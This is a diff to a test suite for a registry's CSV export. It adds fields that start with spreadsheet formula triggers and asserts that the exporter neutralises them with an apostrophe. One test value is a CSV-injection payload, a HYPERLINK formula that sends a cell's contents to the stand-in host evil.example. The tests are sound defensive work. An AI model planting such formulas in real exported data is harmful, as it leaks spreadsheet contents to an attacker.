@@ -446,8 +446,9 @@ EXPORT_QUERIES = {
     "offers.json": 3,
     "offers.xlsx": 3,
 }
-# On PostgreSQL the database writes CSV files (COPY): the settings and the COPY, within a savepoint in a test.
-COPY_QUERIES = 4
+# On PostgreSQL the database writes CSV files (COPY): a trivial query before the first byte (so a database that
+# cannot answer is a 503, not a 200 with a header row), then the settings and the COPY, within a savepoint in a test.
+COPY_QUERIES = 5
 
 
 def expected_queries(name: str) -> int:
@@ -545,9 +546,14 @@ def _awkward_registry(registry):
     registry.poznan.name = '=SUMA(A1) "Zakątek"'
     registry.poznan.description = "\\."
     registry.poznan.members_count = None
+    # Formula triggers at the start of texts (an apostrophe goes before them) and inside them (nothing changes).
+    registry.poznan.short_name = "@SUMA(A1)"
+    registry.poznan.street = "\t=1"
+    registry.poznan.town = "\r=1"
     registry.poznan.save()
-    for code in ("grupa_b", "grupab", "Grupa-A"):
+    for code in ("grupa_b", "grupab", "Grupa-A", "+plus"):
         TargetGroup.objects.create(code=code, name=code, legal_basis=TargetGroup.objects.first().legal_basis)
+    registry.poznan.target_groups.set(TargetGroup.objects.filter(code__in=["+plus", "grupab"]))
     registry.warsaw.target_groups.set(TargetGroup.objects.filter(code__in=["grupa_b", "grupab", "Grupa-A"]))
     registry.warsaw.founder_kinds.set(FounderKind.objects.all()[:3])
     CooperativeActivity.objects.create(cooperative=registry.warsaw, code="10.11.Z", version="2025")
@@ -558,6 +564,8 @@ def _awkward_registry(registry):
     registry.mowing.area_voivodeships.set(["30"])  # left over from an edit: not exported
     registry.cleaning.area_powiats.set(["1465"])  # national: no codes exported
     registry.cleaning.description = ""
+    registry.cleaning.title = '=HYPERLINK("http://evil.example/?x="&B2,"x")'
+    registry.cleaning.price_note = "-2+3"
     registry.cleaning.save()
 
 
@@ -599,6 +607,8 @@ def test_csv_download_on_postgresql_is_written_by_copy(client, registry, postgre
     assert by_krs["0000777777"]["pkd_other"] == "2007:10.11.Z;2025:10.11.Z"
     assert by_krs["0000123456"]["description"] == 'Obiady "domowe", zupy;\nkatering\r\nokolicznościowy'
     assert by_krs["0000654321"]["members_count"] == ""
+    assert by_krs["0000654321"]["short_name"] == "'@SUMA(A1)"  # behind an apostrophe: not a formula
+    assert by_krs["0000654321"]["target_groups"] == "'+plus;grupab"
 
 
 def test_a_copy_left_unread_leaves_the_connection_usable(registry, postgresql_only):
